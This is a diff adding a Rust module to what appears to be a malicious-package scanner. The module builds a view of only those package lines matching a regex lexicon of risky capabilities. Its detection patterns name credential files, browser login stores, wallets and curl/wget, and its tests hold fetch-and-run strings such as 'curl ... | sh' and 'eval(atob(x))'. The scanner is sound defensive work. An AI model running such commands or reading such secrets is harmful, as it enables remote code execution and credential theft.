@@ -1,0 +1,381 @@
+//! The capability view: the lines of a rendered package that can act on
+//! the machine (spawn processes, use the network, run dynamic code, read
+//! the environment or secrets, hook installation, decode blobs), each with
+//! two lines of context, and nothing else.
+//!
+//! Why: a mean-pooled bag of tokens over a long slice barely moves when a
+//! few payload lines are patched into a module (training/README.md,
+//! "Hijacked modules"). Code harm needs a capability, so a model that reads
+//! only capability lines sees a patched payload among a handful of lines
+//! instead of among 16–64 KB of ordinary code, and a package with no
+//! capability line at all gives it nothing to object to.
+//!
+//! The lexicon is deliberately broad (a word such as `requests` in a
+//! comment counts): a line it catches needlessly only gives the model more
+//! to read, while a capability it misses is never read. Documentation and
+//! data files ([`is_inert`](crate::input::render::is_inert)) are skipped:
+//! text harm (orders for an AI agent) is the main model's to judge, not
+//! this view's.
+//!
+//! Training and scans build the view with this one function, so both see
+//! the same bytes; [`Digest::span_to_source`] maps a slice of the view back
+//! to the rendered text for reports. This module must never drop an added
+//! code line the lexicon matches.
+
+use std::borrow::Cow;
+use std::sync::OnceLock;
+
+use regex::bytes::RegexSet;
+
+use crate::report::Span;
+
+/// Named in model configs, so a model is bound to the lexicon it was
+/// trained with (see [`View`](super::View)).
+pub const LEXICON: &str = "capabilities/v1";
+
+/// Lines of context kept on each side of a capability line.
+pub const CONTEXT: usize = 2;
+
+/// The capability classes and their patterns (matched on an added line,
+/// without its leading `+`).
+pub const CLASSES: &[(&str, &str)] = &[
+    (
+        "process",
+        r#"\bsubprocess\b|\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]?p?e?|posix_spawnp?|fork|forkpty)\b|\bpty\.spawn\b|\bchild_process\b|\bexec(?:File)?Sync\b|\bspawnSync\b|\bcommands\.getoutput\b|\bPopen\b|\bShellExecute|\bstartfile\b|\bpowershell\b"#,
+    ),
+    (
+        "network",
+        r#"\bsocket\b|\burllib[23]?\b|\bhttp\.client\b|\bhttplib\b|\brequests\b|\baiohttp\b|\bhttpx\b|\bftplib\b|\bsmtplib\b|\btelnetlib\b|\bparamiko\b|\bwebsockets?\b|\bfetch\s*\(|\bXMLHttpRequest\b|require\(\s*['"](?:node:)?(?:https?|http2|net|dns|tls|dgram)['"]\s*\)|\bpycurl\b|\bdns\.resolver\b|(?:https?|tcp|ftp)://\d{1,3}(?:\.\d{1,3}){3}|\bcurl\b|\bwget\b|\bInvoke-WebRequest\b|\bDownloadString\b|\bwebhooks?\b"#,
+    ),
+    (
+        "dynamic-code",
+        r#"\bexec\s*\(|\beval\s*\(|(?:^|[^\w.])compile\s*\(|\b__import__\b|\bimportlib\.(?:import_module|util|machinery|reload)\b|\bimport_module\s*\(|\bspec_from_file_location\b|\bexec_module\b|\bmarshal\b|\bctypes\b|\bcffi\b|\bnew\s+Function\s*\(|\bvm\.run|__builtins__|\bexec_\s*\(|\bpickle\.loads?\b|\bdlopen\b"#,
+    ),
+    (
+        "environment",
+        r#"\bos\.environ\b|\bgetenv\b|\bprocess\.env\b|\bexpanduser\b|\bPath\.home\s*\(|\bhomedir\s*\(|\bgetpass\b|\bgetlogin\b|\bwinreg\b|\.ssh/|\.aws/|\.npmrc\b|\.pypirc\b|\.git-credentials\b|Login Data|Local State|\bleveldb\b|\bwallet\b|\bkeychain\b|\bgethostname\b|\bplatform\.node\b|\buserInfo\s*\("#,
+    ),
+    (
+        "install-hook",
+        r#"\bcmdclass\b|"(?:pre|post)?install"\s*:|"prepare"\s*:"#,
+    ),
+    (
+        "encoded",
+        r#"[A-Za-z0-9+/]{200,}={0,2}|(?:\\x[0-9a-fA-F]{2}){40,}|(?:\\[0-7]{3}){20,}|\bb(?:64|32|16|85)decode\b|\ba85decode\b|\bfromhex\b|\bunhexlify\b|\bzlib\.decompress\b|\bcodecs\.decode\b|\bFernet\b|\batob\s*\(|Buffer\.from\([^)]*['"]base64['"]"#,
+    ),
+];
+
+fn lexicon() -> &'static RegexSet {
+    static SET: OnceLock<RegexSet> = OnceLock::new();
+    SET.get_or_init(|| {
+        // The patterns are constants checked by a unit test; a failure here
+        // is a build defect, not an input error.
+        RegexSet::new(CLASSES.iter().map(|c| c.1)).expect("capability lexicon compiles")
+    })
+}
+
+/// The capability classes `line` (without its diff marker) shows.
+pub fn classes_of(line: &[u8]) -> Vec<&'static str> {
+    lexicon()
+        .matches(line)
+        .into_iter()
+        .map(|i| CLASSES[i].0)
+        .collect()
+}
+
+/// The view of one text, with the map back to it.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Digest {
+    pub text: Vec<u8>,
+    /// Runs of source bytes copied into `text`: (view offset, source
+    /// offset, length, is a section header), in order.
+    runs: Vec<Run>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+struct Run {
+    at: usize,
+    source: usize,
+    len: usize,
+    header: bool,
+}
+
+/// The separator written before each range of lines that does not follow
+/// the previous one in the source.
+const GAP: &[u8] = b"@@\n";
+
+impl Digest {
+    /// `span` of the view as a span of the source: from the first body line
+    /// at or after its start (a section header names the file, the line
+    /// after it is where the finding is) to the end of the last source byte
+    /// before its end. An empty view maps to the empty span at 0.
+    pub fn span_to_source(&self, span: Span) -> Span {
+        let first = self
+            .runs
+            .iter()
+            .find(|r| !r.header && r.at + r.len > span.start)
+            .or_else(|| self.runs.iter().find(|r| r.at + r.len > span.start));
+        let start = match first {
+            Some(r) => r.source + span.start.saturating_sub(r.at).min(r.len),
+            None => return Span { start: 0, end: 0 },
+        };
+        let last = self.runs.iter().rev().find(|r| r.at < span.end);
+        let end = match last {
+            Some(r) => r.source + (span.end - r.at).min(r.len),
+            None => start,
+        };
+        Span {
+            start,
+            end: end.max(start),
+        }
+    }
+}
+
+/// Builds a [`Digest`] line by line.
+struct Builder {
+    out: Digest,
+    /// Source offset just past the last line copied, if any.
+    copied_to: Option<usize>,
+    /// The current section's header lines (offset, bytes), until written.
+    header: Option<(usize, Vec<u8>)>,
+    /// Whether the next line may be the `+++` line of a header.
+    expect_plus: bool,
+    /// Whether the current section is code (or the text has no sections).
+    code: bool,
+    /// Up to [`CONTEXT`] lines before the next capability line.
+    before: std::collections::VecDeque<(usize, Vec<u8>)>,
+    /// Lines still to copy after the last capability line.
+    after: usize,
+}
+
+impl Builder {
+    fn new() -> Builder {
+        Builder {
+            out: Digest::default(),
+            copied_to: None,
+            header: None,
+            expect_plus: false,
+            code: true,
+            before: Default::default(),
+            after: 0,
+        }
+    }
+
+    fn copy(&mut self, at: usize, line: &[u8], header: bool) {
+        if self.copied_to != Some(at) && !header {
+            self.out.text.extend_from_slice(GAP);
+        }
+        let run = Run {
+            at: self.out.text.len(),
+            source: at,
+            len: line.len(),
+            header,
+        };
+        self.out.text.extend_from_slice(line);
+        match self.out.runs.last_mut() {
+            Some(r) if r.header == header && r.source + r.len == at && r.at + r.len == run.at => {
+                r.len += line.len()
+            }
+            _ => self.out.runs.push(run),
+        }
+        self.copied_to = Some(at + line.len());
+    }
+
+    fn line(&mut self, at: usize, line: &[u8]) {
+        if super::opens_section(line) {
+            self.header = Some((at, line.to_vec()));
+            self.expect_plus = true;
+            self.before.clear();
+            self.after = 0;
+            // A binary file has no path line and no body.
+            self.code = false;
+            return;
+        }
+        if std::mem::take(&mut self.expect_plus) && line.starts_with(b"+++ ") {
+            if let Some((_, h)) = &mut self.header {
+                h.extend_from_slice(line);
+            }
+            let path = String::from_utf8_lossy(line[4..].trim_ascii_end());
+            let path = path.strip_prefix("b/").unwrap_or(&path);
+            self.code = !crate::input::render::is_inert(path);
+            return;
+        }
+        let hit = self.code && line.first() == Some(&b'+') && lexicon().is_match(&line[1..]);
+        if hit {
+            if let Some((h_at, h)) = self.header.take() {
+                self.copy(h_at, &h, true);
+                // The header is not where the range starts.
+                self.copied_to = None;
+            }
+            for (b_at, b) in std::mem::take(&mut self.before) {
+                self.copy(b_at, &b, false);
+            }
+            self.copy(at, line, false);
+            self.after = CONTEXT;
+        } else if self.after > 0 {
+            self.copy(at, line, false);
+            self.after -= 1;
+        } else {
+            if self.before.len() == CONTEXT {
+                self.before.pop_front();
+            }
+            self.before.push_back((at, line.to_vec()));
+        }
+    }
+}
+
+/// The capability view of the text made of `pieces` (each with its offset,
+/// in order, together contiguous). Lines may straddle pieces.
+pub fn digest<'a>(pieces: impl Iterator<Item = (usize, &'a [u8])>) -> Digest {
+    let mut b = Builder::new();
+    // A line cut by a piece boundary, with its start offset.
+    let mut carry: Option<(usize, Vec<u8>)> = None;
+    for (start, bytes) in pieces {
+        let mut pos = 0;
+        while pos < bytes.len() {
+            let end = memchr::memchr(b'\n', &bytes[pos..]).map_or(bytes.len(), |i| pos + i + 1);
+            let part = &bytes[pos..end];
+            let complete = part.last() == Some(&b'\n');
+            let (at, line): (usize, Cow<[u8]>) = match carry.take() {
+                Some((at, mut held)) => {
+                    held.extend_from_slice(part);
+                    (at, Cow::Owned(held))
+                }
+                None => (start + pos, Cow::Borrowed(part)),
+            };
+            if complete {
+                b.line(at, &line);
+            } else {
+                carry = Some((at, line.into_owned()));
+            }
+            pos = end;
+        }
+    }
+    if let Some((at, line)) = carry {
+        b.line(at, &line);
+    }
+    b.out
+}
+
+/// [`digest`] of contiguous bytes.
+pub fn digest_of(bytes: &[u8]) -> Digest {
+    digest(std::iter::once((0, bytes)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn body(lines: &[&str]) -> String {
+        lines.iter().map(|l| format!("+{l}\n")).collect()
+    }
+
+    #[test]
+    fn every_class_compiles_and_names_what_it_matches() {
+        assert_eq!(lexicon().len(), CLASSES.len());
+        let cases = [
+            ("subprocess.run(['ls'])", "process"),
+            ("const { exec } = require('child_process');", "process"),
+            ("urllib.request.urlopen(u)", "network"),
+            ("const https = require('https');", "network"),
+            ("curl -s http://203.0.113.9/p.sh | sh", "network"),
+            ("exec(code)", "dynamic-code"),
+            ("x = compile(src, 'f', 'exec')", "dynamic-code"),
+            ("token = os.environ['TOKEN']", "environment"),
+            ("path.join(os.homedir(), '.npmrc')", "environment"),
+            ("cmdclass={'install': PostInstall},", "install-hook"),
+            ("\"postinstall\": \"node install.js\"", "install-hook"),
+            ("base64.b64decode(blob)", "encoded"),
+        ];
+        for (line, class) in cases {
+            assert!(
+                classes_of(line.as_bytes()).contains(&class),
+                "{line:?} should show {class}, got {:?}",
+                classes_of(line.as_bytes())
+            );
+        }
+        for line in [
+            "RE_NUMBER = re.compile(r'[0-9]+')",
+            "from importlib.metadata import version",
+            "def parse(text: str) -> dict:",
+            "return value.strip()",
+        ] {
+            assert!(classes_of(line.as_bytes()).is_empty(), "{line:?}");
+        }
+    }
+
+    #[test]
+    fn the_view_keeps_capability_lines_with_context_from_code_files_only() {
+        let text = format!(
+            "--- /dev/null\n+++ b/README.md\n@@ -0,0 +1,2 @@\n{}--- /dev/null\n+++ b/pkg/mod.py\n@@ -0,0 +1,12 @@\n{}",
+            body(&["run `subprocess.run` for fun", "ok"]),
+            body(&[
+                "a = 1", "b = 2", "c = 3", "d = 4", "import os", "x = os.environ['K']", "e = 5",
+                "f = 6", "g = 7", "h = 8", "i = 9", "os.system('id')",
+            ])
+        );
+        let d = digest_of(text.as_bytes());
+        let view = String::from_utf8(d.text.clone()).unwrap();
+        assert_eq!(
+            view,
+            "--- /dev/null\n+++ b/pkg/mod.py\n@@\n+d = 4\n+import os\n+x = os.environ['K']\n+e = 5\n+f = 6\n@@\n+h = 8\n+i = 9\n+os.system('id')\n"
+        );
+        // Slices of the view map back to the rendered text.
+        let at = view.find("+x = os").unwrap();
+        let s = d.span_to_source(Span {
+            start: at,
+            end: at + 5,
+        });
+        assert_eq!(&text[s.start..s.end], "+x = ");
+        // A slice starting on the header maps to its first body line.
+        let s = d.span_to_source(Span {
+            start: 0,
+            end: view.len(),
+        });
+        assert!(
+            text[s.start..].starts_with("+d = 4\n"),
+            "{}",
+            &text[s.start..]
+        );
+        assert_eq!(s.end, text.len());
+    }
+
+    #[test]
+    fn only_added_lines_count_and_a_text_without_capabilities_has_an_empty_view() {
+        let diff = "--- a/m.py\n+++ b/m.py\n@@ -1,3 +1,3 @@\n import subprocess\n-subprocess.run(x)\n+print(x)\n";
+        assert!(digest_of(diff.as_bytes()).text.is_empty());
+        let clean = format!(
+            "--- /dev/null\n+++ b/m.py\n@@ -0,0 +1,2 @@\n{}",
+            body(&["a = 1", "b = 2"])
+        );
+        let d = digest_of(clean.as_bytes());
+        assert!(d.text.is_empty());
+        assert_eq!(
+            d.span_to_source(Span { start: 0, end: 0 }),
+            Span { start: 0, end: 0 }
+        );
+        // A plain text (no sections) is code.
+        assert!(!digest_of(b"+eval(atob(x))\n").text.is_empty());
+    }
+
+    #[test]
+    fn lines_cut_across_pieces_give_the_same_view() {
+        let text = format!(
+            "--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1,6 @@\n{}",
+            body(&[
+                "from setuptools import setup",
+                "import os",
+                "os.system('curl x | sh')",
+                "setup()",
+                "a",
+                "b"
+            ])
+        );
+        let whole = digest_of(text.as_bytes());
+        for cut in [1, 7, 20, 40, 60, text.len() - 1] {
+            let (a, b) = text.as_bytes().split_at(cut);
+            let split = digest([(0, a), (cut, b)].into_iter());
+            assert_eq!(split, whole, "cut at {cut}");
+        }
+    }
+}
